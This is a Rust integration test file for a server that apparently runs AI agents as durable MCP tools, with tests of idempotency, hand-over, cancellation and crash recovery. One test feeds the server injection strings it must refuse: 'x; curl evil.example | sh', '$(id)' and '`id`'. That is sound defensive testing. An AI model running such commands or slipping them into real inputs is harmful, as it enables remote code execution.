//! A call is a durable run: handed over, come back for, killed in the middle, started twice.

use serde_json::{Value, json};

use super::{ALLOWED, Serving, arguments, project, text};
use crate::support::client::{Legacy, Modern};
use crate::support::model::{Asked, Model, Say};

fn answers() -> Model {
    Model::by_turn(vec![Say::Text("the answer")])
}

#[test]
fn an_agent_is_a_tool_and_the_same_key_is_the_same_run() {
    let model = answers();
    let project = project(&model, ALLOWED);
    let serving = Serving::start(&project, &[]);
    let client = Modern::new(&serving.address);
    let found = client.result("server/discover", &json!({}));
    assert_eq!(found["_meta"]["io.modelcontextprotocol/serverInfo"]["name"], "abide");
    let tools = client.result("tools/list", &json!({}))["tools"].clone();
    let names: Vec<&str> = tools.as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["helper", "runs_status", "runs_result", "runs_signal", "runs_cancel"]);
    assert_eq!(tools[0]["description"], "Helps");
    assert_eq!(tools[0]["inputSchema"]["required"], json!(["input"]));
    let definition = tools[0]["_meta"]["io.abide/definition"].as_str().unwrap().to_owned();
    assert_eq!(definition.len(), 64);

    for _ in 0..2 {
        assert_eq!(text(&client.call("helper", arguments("help me", "mine"))), "the answer");
    }
    assert_eq!(model.count(), 1, "the second call is the same run");
    assert_eq!(project.show("mine")["run"]["status"], "completed");
    let other = client.call("helper", arguments("something else", "mine"));
    assert_eq!(other["isError"], true);
    assert!(text(&other).contains("has been used"), "{other}");
    // A client that knows abide has a key for its step.
    let keyed = json!({"name": "helper", "arguments": {"input": "once"}, "_meta": {"io.abide/idempotency-key": "k1"}});
    let runs: Vec<Value> =
        (0..2).map(|_| client.result("tools/call", &keyed)["_meta"]["io.abide/run"].clone()).collect();
    assert_eq!((runs[0].clone(), model.count()), (runs[1].clone(), 2));
    for wrong in [json!({}), json!({"input": 7}), json!({"input": "x", "more": 1}), json!({"input": " "})] {
        assert_eq!(client.call("helper", wrong.clone())["isError"], true, "{wrong}");
    }

    let agent = project.root.join(".abide/agents/helper.md");
    std::fs::write(&agent, std::fs::read_to_string(&agent).unwrap() + "More.\n").unwrap();
    let changed = client.result("tools/list", &json!({}));
    assert_ne!(changed["tools"][0]["_meta"]["io.abide/definition"], definition.as_str(), "another definition");
}

#[test]
fn a_key_that_a_shell_would_read_is_refused() {
    let model = answers();
    let project = project(&model, "");
    let serving = Serving::start(&project, &[]);
    let client = Modern::new(&serving.address);
    for key in ["--trust", "x; curl evil.example | sh", "$(id)", "`id`", "a b", "\u{1b}[2J", "", "ä"] {
        let refused = client.call("helper", arguments("help", key));
        assert_eq!(refused["isError"], true, "{key}");
        assert!(text(&refused).contains("at /id"), "{key}: {refused}");
    }
    assert_eq!(client.call("helper", arguments("help", "a.B_7:x@y-z"))["isError"], false);
    assert_eq!(model.count(), 1);
}

#[test]
fn what_takes_longer_than_a_client_waits_is_handed_over() {
    let model = Model::new(|_, _| Say::Held("late"));
    let project = project(&model, ALLOWED);
    let serving = Serving::start(&project, &["--within", "0"]);
    let client = Modern::new(&serving.address);
    let handed = client.call("helper", arguments("help me", "slow"));
    assert!(text(&handed).contains("runs_result") && handed["isError"] == false, "{handed}");
    assert_eq!(handed["structuredContent"]["status"], "working");
    assert_eq!(handed["structuredContent"]["id"], "slow");
    let run = handed["structuredContent"]["run"].as_str().unwrap().to_owned();
    assert_eq!(client.call("runs_status", json!({ "run": run }))["structuredContent"]["status"], "working");
    for wrong in ["slow", "slow.00", ""] {
        let refused = client.call("runs_result", json!({ "run": wrong }));
        assert!(refused["isError"] == true && text(&refused).contains("no handle"), "{refused}");
    }
    model.wait_for(1);
    model.open_gate();
    project.wait_until("slow", |shown| shown["run"]["status"] == "completed");
    assert_eq!(text(&client.call("runs_result", json!({ "run": run }))), "late");
    assert_eq!(client.call("runs_status", json!({ "run": run }))["structuredContent"]["status"], "completed");
}

#[test]
fn a_run_can_be_cancelled_by_its_client_and_by_no_other() {
    let model = Model::new(|_, _| Say::Held("never"));
    let project = project(&model, ALLOWED);
    let serving = Serving::start(&project, &[]);
    let client = Modern::new(&serving.address).with_tasks();
    let task = client.call("helper", arguments("help me", "stop"));
    assert_eq!((&task["resultType"], &task["status"]), (&json!("task"), &json!("working")));
    let id = task["taskId"].as_str().unwrap();
    model.wait_for(1);
    for wrong in ["stop", "stop.0123456789abcdef0123456789abcdef", "none"] {
        for method in ["tasks/get", "tasks/cancel", "tasks/update"] {
            assert_eq!(client.ask(method, &json!({ "taskId": wrong }))["error"]["code"], -32602, "{method} {wrong}");
        }
    }
    let stranger = Modern::new(&serving.address);
    assert_eq!(stranger.ask("tasks/get", &json!({ "taskId": id }))["error"]["code"], -32021);
    assert_eq!(client.result("tasks/cancel", &json!({ "taskId": id }))["resultType"], "complete");
    client.task_until(id, |task| task["status"] == "cancelled");
    assert_eq!(project.show("stop")["run"]["status"], "cancelled");
    client.result("tasks/cancel", &json!({ "taskId": id }));
}

/// Writes once, then answers, which the gate holds.
pub(super) fn writes_then_waits() -> Model {
    Model::new(|_, asked: &Asked| {
        let messages = asked.body["messages"].as_array().unwrap();
        if messages.iter().any(|message| message["role"] == "tool") {
            return Say::Held("written");
        }
        let n = messages.iter().find(|message| message["role"] == "user").unwrap()["content"].clone();
        Say::Calls(vec![("fix_write", json!({ "n": n }))])
    })
}

#[test]
fn ten_clients_wait_for_tasks_and_a_killed_server_loses_none_of_them() {
    let model = writes_then_waits();
    let project = project(&model, ALLOWED);
    let serving = Serving::start(&project, &[]);
    let mut waiting = Vec::new();
    for n in 0..10 {
        let (id, arguments) = (format!("r{n}"), arguments(&format!("write {n}"), &format!("r{n}")));
        let handle = if n % 2 == 0 {
            let client = Modern::new(&serving.address).with_tasks();
            client.call("helper", arguments)["taskId"].as_str().unwrap().to_owned()
        } else {
            let client = Legacy::new(&serving.address, &json!({}));
            let params = json!({"name": "helper", "arguments": arguments, "task": {}});
            let handle = client.result("tools/call", &params)["task"]["taskId"].as_str().unwrap().to_owned();
            // It waits, and its connection breaks.
            let params = json!({ "taskId": handle });
            waiting.push(std::thread::spawn(move || client.send("tasks/result", &params).all().len()));
            handle
        };
        waiting_for(&project, &id);
        waiting.push(std::thread::spawn({
            let (client, handle) = (Modern::new(&serving.address).with_tasks(), handle.clone());
            move || usize::from(client.result("tasks/get", &json!({ "taskId": handle }))["status"] != "working")
        }));
        std::fs::write(project.dir.path().join(&id), handle).unwrap();
    }
    // Each has written, and is in the middle of its second turn.
    model.wait_for(20);
    serving.kill();
    let broken: usize = waiting.into_iter().map(|thread| thread.join().unwrap_or(0)).sum();
    assert_eq!(broken, 0, "nobody was told a result");

    let serving = Serving::start(&project, &[]);
    model.wait_for(30);
    model.open_gate();
    for n in 0..10 {
        let handle = std::fs::read_to_string(project.dir.path().join(format!("r{n}"))).unwrap();
        let result = if n % 2 == 0 {
            let client = Modern::new(&serving.address).with_tasks();
            client.task_until(&handle, |task| task["status"] == "completed")["result"].clone()
        } else {
            let client = Legacy::new(&serving.address, &json!({}));
            let result = client.result("tasks/result", &json!({ "taskId": handle }));
            assert_eq!(result["_meta"]["io.modelcontextprotocol/related-task"]["taskId"], handle.as_str());
            result
        };
        assert_eq!(text(&result), "written");
    }
    // The turns that were cut off were asked again; those that were done were not, and nothing was written twice.
    assert_eq!(model.count(), 30);
    let mut written: Vec<Value> = project.calls().into_iter().map(|(_, arguments)| arguments["n"].clone()).collect();
    written.sort_by_key(Value::to_string);
    let expected: Vec<Value> = (0..10).map(|n| json!(format!("write {n}"))).collect();
    assert_eq!(written, expected);
}

/// The run is there before its handle is.
fn waiting_for(project: &crate::support::project::Project, run: &str) {
    assert!(["running", "waiting"].contains(&project.show(run)["run"]["status"].as_str().unwrap()));
}

#[test]
fn a_start_whose_answer_was_lost_is_not_made_twice() {
    let model = answers();
    let project = project(&model, ALLOWED);
    let serving = Serving::doomed(&project, "start.committed:1");
    let client = Modern::new(&serving.address).with_tasks();
    let lost = std::thread::spawn(move || client.call("helper", arguments("help", "mine"))).join();
    assert!(lost.is_err(), "it ended before it could answer");
    assert!(!serving.ended().success());
    let serving = Serving::start(&project, &[]);
    let client = Modern::new(&serving.address).with_tasks();
    let id = client.call("helper", arguments("help", "mine"))["taskId"].as_str().unwrap().to_owned();
    assert_eq!(text(&client.task_until(&id, |task| task["status"] == "completed")["result"]), "the answer");
    assert_eq!(project.abide(&["ls", "--json"]).json()["runs"].as_array().unwrap().len(), 1);
    assert_eq!(model.count(), 1);
}

#[cfg(unix)]
#[test]
fn a_server_that_is_told_to_stop_lets_go_of_its_runs() {
    let model = Model::new(|_, _| Say::Held("late"));
    let project = project(&model, ALLOWED);
    let serving = Serving::start(&project, &[]);
    let client = Modern::new(&serving.address);
    let waiting = std::thread::spawn(move || {
        client.send("tools/call", &json!({"name": "helper", "arguments": arguments("help", "r")})).all()
    });
    model.wait_for(1);
    let pid = serving.child.id().to_string();
    assert!(std::process::Command::new("kill").args(["-TERM", &pid]).status().unwrap().success());
    assert!(serving.ended().success());
    assert!(waiting.join().map_or(true, |said| said.is_empty()), "nobody was told a result");
    assert_eq!(project.show("r")["run"]["status"], "interrupted");
    model.open_gate();
    assert_eq!(project.abide(&["resume", "r", "--trust"]).is(0).stdout, "late\n");
}

#[test]
fn whatever_is_interrupted_is_taken_up_though_nobody_asks() {
    let model = writes_then_waits();
    let project = project(&model, ALLOWED);
    let mut child = project.spawn(&["run", "helper", "write", "--id", "left", "--trust"]);
    model.wait_for(2);
    child.kill().unwrap();
    child.wait().unwrap();
    model.open_gate();
    let _serving = Serving::start(&project, &[]);
    let shown = project.wait_until("left", |shown| shown["run"]["status"] == "completed");
    assert_eq!(shown["run"]["output"], "written");
    assert_eq!(project.calls().len(), 1);
}
